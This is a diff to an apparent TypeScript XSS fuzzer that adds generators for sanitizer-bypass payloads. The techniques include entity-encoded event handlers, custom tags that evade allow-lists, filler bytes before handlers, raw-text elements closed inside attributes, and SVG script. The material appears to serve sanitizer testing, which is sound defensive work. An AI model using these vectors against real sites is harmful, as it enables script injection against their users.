@@ -78,7 +78,33 @@ function jsScheme(r: R): string {
 /** A base64 of markup that runs script, as data: URIs carry it. */
 const b64 = (s: string) => Buffer.from(s).toString("base64");
 
+/** Script as an attribute's character references still spell it: the HTML parser decodes them before the handler runs. */
+function entityCode(r: R, js: string): string {
+  return js.replace(/[a-z()`'.=]/gi, (c) => {
+    const k = r(4);
+    if (k === 0) return `&#${c.charCodeAt(0)};`;
+    if (k === 1) return `&#x${c.charCodeAt(0).toString(16)};`;
+    if (k === 2 && "()".includes(c)) return c === "(" ? "&lpar;" : "&rpar;";
+    return c;
+  });
+}
+/** A custom element name, as fuzzers use to pass tag allow-lists: `<d3v`, `<x-a1`. */
+const customTag = (r: R) => pickR(r, ["d3v", "x", "xss", "zz", "a1b", "x-y", "my-el", "d3\"<\""]) ;
+
 const VECTORS: ((r: R) => string)[] = [
+  // handler whose code is written with character references (decoded in the attribute)
+  (r) => {
+    const q = pickR(r, ["\"", "'", ""]);
+    return `<${mix(r, pickR(r, ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x"]))}${ws(r)}${mix(r, pickR(r, EVENTS))}=${q}${entityCode(r, pickR(r, ["alert(1)", "confirm(document.domain)", "prompt(1)", "alert`1`"]))}${q}>`;
+  },
+  // custom element with a handler that needs no click, and filler bytes a fuzzer puts before the handler
+  (r) => `<${customTag(r)}${pickR(r, ["/+/", "%0a", "/", "\n", " ", "\t", "\f"]).replace("%0a", "\n")}${mix(r, pickR(r, ["onmouseover", "onclick", "onpointerenter", "onfocus", "onauxclick"]))}${pickR(r, ["=", "\n=", "=\n"])}${pickR(r, ["(confirm)()", "alert(1)", "[8].find(confirm)", "prompt`1`", "confirm&lpar;1&rpar;"])}${pickR(r, [">", " tabindex=1>", "//", ">v3dm0s"])}`,
+  // a raw-text element closed inside an attribute: the parser ends <xmp>/<noscript>/<title> at the fake closing tag
+  (r) => { const el = pickR(r, ["xmp", "noscript", "title", "textarea", "noembed", "iframe", "style"]); return `<${el}><p title="</${mix(r, el)}><${mix(r, "svg")}/${mix(r, "onload")}=${code(r).replace(/ /g, "/**/")}>">`; },
+  // svg script: character references are decoded there
+  (r) => `<${mix(r, "svg")}><${mix(r, "script")}>${entityCode(r, "alert(1)")}</${mix(r, "script")}>`,
+  // handler without a value before one with, and src without a value
+  (r) => `<${mix(r, "img")} src ${mix(r, "onerror")}=${code(r).replace(/ /g, "/**/")}>`,
   // handler on an element
   (r) => {
     const [tag, need] = pickR(r, TAGS);
